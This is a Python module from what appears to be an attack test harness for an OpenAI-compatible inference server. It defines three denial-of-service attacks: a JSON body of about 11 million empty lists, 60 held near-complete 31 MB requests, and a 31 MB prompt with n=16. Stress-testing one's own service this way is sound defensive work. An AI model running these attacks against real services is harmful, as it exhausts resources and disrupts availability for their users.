"""Bodies that are large, deep, or never complete."""

from __future__ import annotations

import asyncio

from scripts.attack.registry import attack
from scripts.attack.target import ATTACKER, Target, counted, post

MIB = 1024 * 1024


@attack("empty-lists", "JSON of 11 million empty lists in chat_template_kwargs")
async def empty_lists(target: Target) -> str:
    body = b'{"messages":[{"role":"user","content":"a"}],"chat_template_kwargs":{"a":[%s[]]}}' % (b"[]," * 10_900_000)
    async with target.session() as session:
        return counted([await post(session, "/v1/chat/completions", body) for _ in range(3)])


@attack("half-bodies", "60 bodies of 31 MB, each sent up to its last byte and held")
async def half_bodies(target: Target) -> str:
    size = 31 * MIB
    head = (
        f"POST /v1/completions HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {size}\r\n\r\n"
    )

    async def hold() -> str:
        reader, writer = await target.connect(ATTACKER)
        try:
            writer.write(head.encode() + b'{"prompt":"')
            for _ in range(30):
                writer.write(b"a" * MIB)
                await writer.drain()
            answer = await asyncio.wait_for(reader.readline(), 5)
            return answer.decode().strip()
        except TimeoutError:
            return "held"
        except ConnectionError as error:
            return type(error).__name__
        finally:
            writer.close()

    return counted(await asyncio.gather(*(hold() for _ in range(60))))


@attack("huge-prompt", "a prompt of 31 MB with n=16")
async def huge_prompt(target: Target) -> str:
    async with target.session() as session:
        return await post(session, "/v1/completions", {"prompt": "a " * (31 * MIB // 2), "n": 16, "max_tokens": 1})
